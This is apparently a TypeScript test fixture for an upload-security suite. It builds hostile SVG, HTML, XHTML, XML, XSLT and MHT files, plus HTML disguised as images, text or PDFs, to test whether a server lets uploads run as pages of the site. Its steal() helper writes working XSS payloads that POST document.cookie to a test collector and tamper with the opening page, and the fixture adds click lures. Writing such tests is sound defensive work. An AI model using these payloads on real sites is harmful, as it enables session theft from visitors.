/** Files that a stranger uploads because a browser, left to itself, would run them as a page of the site. */
import { TROPHIES, type Upload } from './sites.js';

/** How an upload is looked at: in a window of its own that a page of the site opens, or as a part of that page. */
export const WAYS = ['window', 'iframe', 'object', 'embed'] as const;
export type Way = (typeof WAYS)[number];

/** A hostile file, and what it gets hold of on a careless server. */
export interface HostileDocument extends Upload {
  /** Parts with a script that runs, in each way in which the file is shown. */
  readonly scripts: readonly string[];
  /** Parts that cause a request without a script. */
  readonly requests?: readonly string[];
  /** Selectors of what a visitor is lured to click. */
  readonly lures?: readonly string[];
  /** The ways in which its scripts run, where not in all. */
  readonly ways?: readonly Way[];
}

/** The target whose request proves that this part of this file did something. */
export const trophy = (name: string, part: string): string => `${TROPHIES}${name}/${part}`;

/**
 * Takes what a script of the site's origin can take: the session, a request in the visitor's name, the page that
 * shows or opened the file, what is stored. Fit for an attribute in double quotes, in HTML and XML.
 */
function steal(name: string, part: string): string {
  const target = `'${trophy(name, part)}' + (location.search || parent.location.search)`;
  return [
    `fetch(${target}, { method: 'POST', body: document.cookie })`,
    `(opener || parent)[opener ? 'stolenByWindow' : 'stolenByPart'] = true`,
    `document.cookie = 'stolen=1; Path=/'`,
    `void localStorage.setItem('stolen', 1)`,
  ].join('; ');
}

const drawing = (name: string): HostileDocument => ({
  body: `<?xml version="1.0"?>
<?xml-stylesheet href="${trophy(name, 'sheet')}"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30"
     onload="${steal(name, 'onload')}">
  <style>@import "${trophy(name, 'import')}";</style>
  <script>${steal(name, 'inline')}</script>
  <script href="/media/${name}.js"/>
  <a id="lure" xlink:href="javascript:${steal(name, 'link')}"><rect width="40" height="30"/></a>
  <image href="${trophy(name, 'image')}" width="1" height="1"/>
  <rect width="1" height="1"><set attributeName="x" to="1" onbegin="${steal(name, 'animation')}"/></rect>
  <foreignObject width="1" height="1">
    <iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${steal(name, 'srcdoc')}&lt;/script>"/>
  </foreignObject>
</svg>`,
  carelessType: 'image/svg+xml',
  scripts: ['onload', 'inline', 'external', 'link', 'animation', 'srcdoc'],
  requests: ['sheet', 'import', 'image'],
  lures: ['#lure'],
});

const page = (name: string): HostileDocument => ({
  body: `<!doctype html>
<title>An upload</title>
<meta http-equiv="refresh" content="0; url=${trophy(name, 'refresh')}">
<link rel="stylesheet" href="${trophy(name, 'sheet')}">
<link rel="preload" as="image" href="${trophy(name, 'preload')}">
<link rel="prefetch" href="${trophy(name, 'prefetch')}">
<style>@import "${trophy(name, 'import')}"; body { background: url(${trophy(name, 'background')}) }</style>
<body onload="${steal(name, 'onload')}">
<form method="post" action="${trophy(name, 'form')}"><button id="button">Win a prize</button></form>
<a id="link" href="javascript:${steal(name, 'link')}">or here</a>
<a id="ping" href="#" ping="${trophy(name, 'ping')}">or here</a>
<script>${steal(name, 'inline')}</script>
<script src="/media/${name}.js"></script>
<script type="module">${steal(name, 'module')}</script>
<img src="${trophy(name, 'image')}" onerror="${steal(name, 'onerror')}">
<iframe src="${trophy(name, 'frame')}"></iframe>
<iframe src="javascript:${steal(name, 'frame-link')}"></iframe>
<iframe srcdoc="<script>${steal(name, 'srcdoc')}</script>"></iframe>
<object data="${trophy(name, 'object')}"></object>
<embed src="${trophy(name, 'embed')}">
<video src="${trophy(name, 'video')}"></video>`,
  carelessType: 'text/html',
  scripts: ['onload', 'link', 'inline', 'external', 'module', 'onerror', 'frame-link', 'srcdoc'],
  requests: [
    ...['refresh', 'sheet', 'preload', 'prefetch', 'import', 'background', 'form', 'ping'],
    ...['image', 'frame', 'object', 'embed', 'video'],
  ],
  lures: ['#button', '#link', '#ping'],
});

const xhtml = (name: string): HostileDocument => ({
  body: `<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml">
  <head><title>An upload</title></head>
  <body onload="${steal(name, 'onload')}">
    <script>${steal(name, 'inline')}</script>
    <form method="post" action="${trophy(name, 'form')}"><button id="button">Win a prize</button></form>
  </body>
</html>`,
  carelessType: 'application/xhtml+xml',
  scripts: ['onload', 'inline'],
  requests: ['form'],
  lures: ['#button'],
});

/** Any XML is a page with a script once an element says that it is one of XHTML's. */
const xml =
  (carelessType: string) =>
  (name: string): HostileDocument => ({
    body: `<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:h="http://www.w3.org/1999/xhtml">
  <h:script>${steal(name, 'inline')}</h:script>
</feed>`,
    carelessType,
    scripts: ['inline'],
  });

/** XML that other browsers show; Chromium offers to save it. */
const saved =
  (carelessType: string) =>
  (name: string): HostileDocument => ({ ...xml(carelessType)(name), scripts: [] });

/** XML that becomes a page through another upload. */
const transformed = (): HostileDocument => ({
  body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/media/transformation.xml"?><empty/>',
  carelessType: 'text/xml',
  scripts: ['transformed'],
});

const transformation = (name: string): string => `<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><html><body><script>${steal(name, 'transformed')}</script></body></html></xsl:template>
</xsl:stylesheet>`;

const shortPage = (name: string): string =>
  `<!doctype html><title>An upload</title><script>${steal(name, 'inline')}</script>`;

/** HTML by another of its names. */
const renamed = (name: string): HostileDocument => ({
  body: shortPage(name),
  carelessType: 'text/html',
  scripts: ['inline'],
});

/** HTML under a name that says something else, or nothing. */
const disguised = (name: string): HostileDocument => ({ body: shortPage(name), scripts: ['inline'] });

/** HTML under the name of a picture, for which `embed` goes by the name. */
const picture = (name: string): HostileDocument => ({
  ...disguised(name),
  ways: WAYS.filter((way) => way !== 'embed'),
});

/** A saved page. Chromium opens such files from disk only, so that no server can make it run this. */
const archive = (name: string): HostileDocument => ({
  body: [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary=part; type="text/html"',
    '',
    '--part',
    'Content-Type: text/html',
    'Content-Location: http://localhost/',
    '',
    shortPage(name),
    '--part--',
    '',
  ].join('\r\n'),
  carelessType: 'multipart/related',
  scripts: [],
});

const KINDS: Readonly<Record<string, (name: string) => HostileDocument>> = {
  'drawing.svg': drawing,
  'page.html': page,
  'PAGE.HTM': renamed,
  'page.shtml': renamed,
  'page.xhtml': xhtml,
  'page.xht': xhtml,
  'data.xml': xml('application/xml'),
  'data.xsl': xml('application/xml'),
  'feed.atom': saved('application/atom+xml'),
  'formula.mathml': saved('application/mathml+xml'),
  'transformed.xml': transformed,
  'archive.mht': archive,
  'no-extension': disguised,
  'page.unknown': disguised,
  'page.html.': disguised,
  'photo.jpg': picture,
  'notes.txt': disguised,
  'data.json': disguised,
  'letter.pdf': disguised,
  'program.js': disguised,
};

/** By file name. */
export const HOSTILE_DOCUMENTS: Readonly<Record<string, HostileDocument>> = Object.fromEntries(
  Object.entries(KINDS).map(([name, kind]) => [name, kind(name)]),
);

/** Files that they load. */
export const ACCOMPLICES: Readonly<Record<string, Upload>> = {
  'drawing.svg.js': { body: steal('drawing.svg', 'external'), carelessType: 'text/javascript' },
  'page.html.js': { body: steal('page.html', 'external'), carelessType: 'text/javascript' },
  'transformation.xml': { body: transformation('transformed.xml'), carelessType: 'text/xml' },
};
